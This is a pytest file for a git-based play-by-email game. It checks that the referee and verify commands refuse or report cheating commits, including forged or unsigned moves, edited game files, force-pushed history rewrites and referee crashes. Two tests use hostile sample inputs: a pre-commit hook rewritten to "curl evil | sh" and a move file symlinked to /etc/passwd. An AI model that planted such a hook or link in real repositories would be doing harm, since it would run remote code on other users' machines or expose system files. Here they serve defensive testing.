"""Every attack a player with push access can make, and what the referee (or verify) does about it: refused and
recorded where players see it, the game unchanged, or the rewrite reported."""
from __future__ import annotations

import pytest

from gitkit import git, plan, referee_killed_before_commit
from pbem.engine import engine
from pbem.git import keys, layout
from pbem.play import movefile
from pbem.store import yamlio

SEED = "attack-seed"


@pytest.fixture
def game(club):
    return club("coal-baron", 3, seed=SEED)


def refused(game) -> list[dict]:
    return yamlio.load_file(game.dir / "refused.yaml")["refused"]


def first_move(game) -> str:
    return first_submission(game)[2][0]


def first_submission(game) -> tuple[int, str, list[str]]:
    return plan("coal-baron", game.names, SEED, game.dir.name, limit=1)[0][0]


def test_a_commit_that_edits_public_yaml_changes_nothing_and_is_recorded_as_refused(game):
    before = (game.dir / "public.yaml").read_bytes()
    state = game.state()
    commit = game.commit_file("alice", "public.yaml", before.replace(b"move_number: 1", b"move_number: 9"), "cheat")
    run = game.referee()
    assert [c["verdict"] for c in run["commits"]] == ["refused"]
    assert "public.yaml" in run["commits"][0]["reason"]
    assert (game.dir / "public.yaml").read_bytes() == before  # the referee's commit puts its own file back
    assert game.state() == state
    entry = refused(game)[-1]
    assert entry["commit"] == commit and "only add one move file" in entry["reason"]
    game.pull("bob")
    assert yamlio.load_file(game.clones["bob"] / "refused.yaml")["refused"][-1]["commit"] == commit


def test_a_commit_that_edits_the_pre_commit_configuration_is_refused_and_undone(game):
    # the hooks run on every player's machine: a player who could point them at a command of theirs would run it
    hostile = layout.PRE_COMMIT_CONFIG.replace("entry: pbem git check-move", "entry: sh -c 'curl evil | sh'")
    commit = game.commit_file("alice", layout.PRE_COMMIT, hostile, "faster hooks")
    run = game.referee()
    assert [c["verdict"] for c in run["commits"]] == ["refused"]
    assert layout.PRE_COMMIT in run["commits"][0]["reason"]
    assert refused(game)[-1]["commit"] == commit
    game.pull("bob")
    assert (game.clones["bob"] / layout.PRE_COMMIT).read_text() == layout.PRE_COMMIT_CONFIG


def test_a_commit_that_adds_a_move_and_another_file_is_refused(game):
    game.pull("alice")
    (game.clones["alice"] / "notes.txt").write_text("hello")
    git(game.clones["alice"], "add", "notes.txt")
    text = game.signed_move_text("alice", 1, [first_move(game)])
    commit = game.commit_file("alice", "moves/0001-alice.yaml", text, pull=False)
    assert game.referee()["commits"][0]["verdict"] == "refused"
    assert refused(game)[-1]["commit"] == commit
    assert not (game.dir / "notes.txt").exists() and engine.status(engine.open_game(game.game_dir()))[
        "move_number"] == 1


def test_a_move_for_another_player_is_refused(game):
    # alice writes bob's move file, signed with her own secret (she does not have bob's)
    forged = game.signed_move_text("bob", 1, [first_move(game)], secret_of="alice")
    game.commit_file("alice", "moves/0001-bob.yaml", forged)
    # and a file named for alice that says it is bob's
    game.commit_file("alice", "moves/0001-alice.yaml", game.signed_move_text("bob", 1, [first_move(game)]))
    run = game.referee()
    reasons = [c["reason"] for c in run["commits"]]
    assert [c["verdict"] for c in run["commits"]] == ["refused", "refused"]
    assert "bad signature" in reasons[0] or "turn" in reasons[0]
    assert "its name must say the same" in reasons[1]
    assert engine.status(engine.open_game(game.game_dir()))["move_number"] == 1


def test_a_bad_or_missing_signature_is_refused(game):
    doc = movefile.build(game.dir.name, 1, "alice", [first_move(game)])
    game.commit_file("alice", "moves/0001-alice.yaml", movefile.dumps(doc))
    git(game.clones["alice"], "rm", "--quiet", "moves/0001-alice.yaml")
    git(game.clones["alice"], "commit", "--quiet", "-m", "take it back")
    signed = movefile.build(game.dir.name, 1, "alice", [first_move(game)], game.secrets["bob"])
    game.commit_file("alice", "moves/0001-alice.yaml", movefile.dumps(signed), pull=False)
    reasons = [c["reason"] for c in game.referee()["commits"]]
    assert "not signed" in reasons[0] and "deletes moves/0001-alice.yaml" in reasons[1]
    assert "bad signature" in reasons[2]


def test_two_players_pushing_for_the_same_move_one_is_applied_the_other_refused(game):
    move = first_move(game)
    alice = game.commit_file("alice", "moves/0001-alice.yaml", game.signed_move_text("alice", 1, [move]),
                             push=False)
    bob = game.commit_file("bob", "moves/0001-bob.yaml", game.signed_move_text("bob", 1, ["resign"]), push=False)
    git(game.clones["bob"], "push", "--quiet")
    rejected = git(game.clones["alice"], "push", "--quiet", check=False)
    assert "rejected" in rejected or git(game.clones["alice"], "status", "-sb").count("ahead") == 1
    game.pull("alice")  # alice rebases her move on bob's and pushes
    git(game.clones["alice"], "push", "--quiet")
    run = game.referee()
    verdicts = {c["commit"]: c for c in run["commits"]}
    assert verdicts[bob]["verdict"] == "accepted"  # bob resigned first, at move 1
    alice_rebased = [c for c in run["commits"] if c["commit"] not in (bob,)][0]
    assert alice_rebased["verdict"] == "refused" and "stale" in alice_rebased["reason"]
    assert alice not in verdicts  # the rebased copy was judged, not the commit that never reached the remote


def test_a_hidden_choice_committed_in_the_clear_is_refused_and_pbem_git_move_encrypts_it(club):
    game = club("coal-baron", 2, seed="hidden-seed")
    submissions, _ = plan("coal-baron", game.names, "hidden-seed", game.dir.name)
    hidden_at = next(i for i, (_, _, moves) in enumerate(submissions) if any(m.startswith("return") for m in moves))
    game.play(submissions[:hidden_at])
    number, player, moves = submissions[hidden_at]
    game.commit_file(player, f"moves/{number:04d}-{player}.yaml", game.signed_move_text(player, number, moves))
    assert "hidden choice" in game.referee()["commits"][0]["reason"]
    result = game.move(player, "; ".join(moves))
    assert result.code == 0 and result.json()["encrypted"]
    data = (game.clones[player] / result.json()["file"]).read_text()
    assert data.startswith(keys.ARMOR_BEGIN) and "return" not in data
    assert game.referee()["commits"][0]["verdict"] == "accepted"


def test_a_force_push_that_drops_a_move_is_reported_by_the_referee_and_by_verify(game, tmp_path):
    submissions, _ = plan("coal-baron", game.names, SEED, game.dir.name, limit=4)
    game.play(submissions[:2], referee_every=1)
    game.play(submissions[2:], referee_every=1)
    carol = game.clones["carol"]
    git(carol, "pull", "--quiet")
    seen = git(carol, "rev-parse", "HEAD").strip()
    # alice rewrites the remote: back to the second refereed commit, a different move on top, force-pushed
    alice = game.clones["alice"]
    game.pull("alice")
    target = git(alice, "log", "--format=%H", "--grep=^Pbem-Move: 3", "-1").strip()
    git(alice, "reset", "--quiet", "--hard", target)
    git(alice, "push", "--quiet", "--force", "origin", "HEAD:main")
    result = game.pbem("git", "referee", game.dir, *game.referee_args(), "--remote", "origin")
    assert result.code == 2 and "rewritten" in result.err and "force-push" in result.err
    # carol's clone saw the old history: verify says the remote lost refereed commits
    git(carol, "fetch", "--quiet")
    result = game.pbem("git", "verify", carol)
    assert result.code == 2 and "rewritten" in result.err and seen[:10] in result.err
    # a fresh clone of a history edited below the referee's commits (a move file changed, the rest replayed on
    # top with its messages) cannot follow the chain of recorded previous commits
    fresh = tmp_path / "edited"
    git(tmp_path, "clone", "--quiet", "--branch", "main", game.dir, fresh)
    first = git(fresh, "log", "--reverse", "--format=%H", "--", "moves/").split()[0]
    path = git(fresh, "show", "--name-only", "--format=", first).strip()
    git(fresh, "-c", "sequence.editor=sed -i 1s/^pick/edit/", "rebase", "--quiet", "-i", f"{first}~1")
    with open(fresh / path, "a") as handle:
        handle.write("# edited afterwards\n")
    git(fresh, "commit", "--quiet", "--amend", "--no-edit", "-a")
    git(fresh, "-c", "core.editor=true", "rebase", "--continue")
    result = game.pbem("git", "verify", fresh)
    assert result.code == 2 and "rewritten" in result.err


def test_running_the_referee_twice_applies_nothing_twice(game):
    _, player, moves = first_submission(game)
    assert game.move(player, moves[0]).code == 0
    first = game.referee()
    second = game.referee()
    assert [c["verdict"] for c in first["commits"]] == ["accepted"]
    assert second["commits"] == [] and second["commit"] is None
    assert engine.status(engine.open_game(game.game_dir()))["move_number"] == 2


def test_a_referee_killed_after_applying_a_move_and_before_committing_applies_it_once(game, monkeypatch):
    _, player, moves = first_submission(game)
    assert game.move(player, moves[0]).code == 0
    referee_killed_before_commit(game, monkeypatch)
    assert engine.status(engine.open_game(game.game_dir()))["move_number"] == 2  # applied, not committed
    run = game.referee()
    assert [c["verdict"] for c in run["commits"]] == ["accepted"]
    assert engine.status(engine.open_game(game.game_dir()))["move_number"] == 2
    assert (game.dir / f"moves/0001-{player}.yaml").exists()


def test_a_referee_killed_after_its_record_and_before_moving_the_branch_places_its_commit_next_time(game,
                                                                                                     monkeypatch):
    from pbem.git import desk
    from pbem.git.referee import referee
    _, player, moves = first_submission(game)
    assert game.move(player, moves[0]).code == 0
    save = desk.Desk.save

    def killed(self, commit):
        save(self, commit)
        raise RuntimeError("killed")
    monkeypatch.setattr(desk.Desk, "save", killed)
    with pytest.raises(RuntimeError):
        referee(game.dir, referee_root=game.referee_dir, remote="origin")
    monkeypatch.undo()
    made = desk.read_record(desk.record_path(game.game_dir()))["chain"][-1]
    assert git(game.dir, "rev-parse", "HEAD").strip() != made  # made and recorded, not placed
    run = game.referee()
    assert run["commits"] == [] and run["pushed"]
    git(game.dir, "merge-base", "--is-ancestor", made, "HEAD")  # fails the test unless placed
    game.pull(player)
    assert (game.clones[player] / f"moves/0001-{player}.yaml").exists()
    assert yamlio.load_file(game.clones[player] / "public.yaml")["move_number"] == 2
    assert refused(game) == []


def test_a_symlink_as_move_file_is_refused(game):
    game.pull("alice")
    (game.clones["alice"] / "moves").mkdir(exist_ok=True)
    (game.clones["alice"] / "moves/0001-alice.yaml").symlink_to("/etc/passwd")
    git(game.clones["alice"], "add", "moves/0001-alice.yaml")
    git(game.clones["alice"], "commit", "--quiet", "-m", "link")
    git(game.clones["alice"], "push", "--quiet")
    assert "not a plain file" in game.referee()["commits"][0]["reason"]
